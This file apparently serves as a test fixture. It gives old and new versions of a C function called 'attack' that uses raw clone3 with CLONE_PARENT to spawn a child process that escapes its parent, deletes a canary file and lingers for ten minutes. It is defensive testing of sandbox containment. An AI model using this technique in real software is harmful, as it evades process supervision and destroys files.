//// old
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    unsigned long long arguments[11];
    memset(arguments, 0, sizeof arguments);
    arguments[0] = 0x8000; /* CLONE_PARENT */
    long child = syscall(435, arguments, sizeof arguments);
    if (child == 0) {
        syscall(SYS_unlink, "@CANARY@/file");
        for (int i = 0; i < 600; i++) sleep(1);
        syscall(SYS_exit_group, 0);
    }
    return x;
}
//// new
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
int attack(int x) {
    unsigned long long arguments[11];
    memset(arguments, 0, sizeof arguments);
    arguments[0] = 0x8000; /* CLONE_PARENT */
    long child = syscall(435, arguments, sizeof arguments);
    if (child == 0) {
        syscall(SYS_unlink, "@CANARY@/file");
        for (int i = 0; i < 600; i++) sleep(1);
        syscall(SYS_exit_group, 0);
    }
    return x + 1;
}
